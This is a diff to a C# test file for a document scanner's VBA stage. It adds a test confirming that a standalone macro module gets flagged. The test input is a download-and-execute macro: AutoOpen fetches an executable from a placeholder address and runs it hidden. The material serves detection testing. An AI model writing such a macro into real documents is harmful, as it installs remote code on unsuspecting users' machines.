@@ -1,3 +1,4 @@
+using System.Text;
 using ScanHost.Pipeline.Tests.Doubles;
 using ScanHost.TestKit;
 
@@ -16,6 +17,16 @@ public sealed class VbaStageTests
         var file = OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("M", source).Build()).Build();
 
         (await DocumentScans.FindingsAsync(file)).Should().NotContain("vba.auto_exec_write");
+    }
+
+    [Theory]
+    [InlineData("Module1.bas", "Attribute VB_Name = \"M\"\n")]
+    [InlineData("macro.vba", "")]
+    public async Task A_module_that_comes_by_itself_is_judged_like_one_in_a_document(string name, string head)
+    {
+        var outcome = await Scans.OfAsync(Encoding.ASCII.GetBytes(head + "Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" ()\nSub AutoOpen()\nURLDownloadToFile 0, \"http://192.0.2.1/a.exe\", f, 0, 0\nShell f, vbHide\nEnd Sub\n"), name);
+
+        outcome.Findings.Select(found => found.Id).Should().Contain(["vba.auto_exec_write", "vba.download"]);
     }
 
     [Theory]
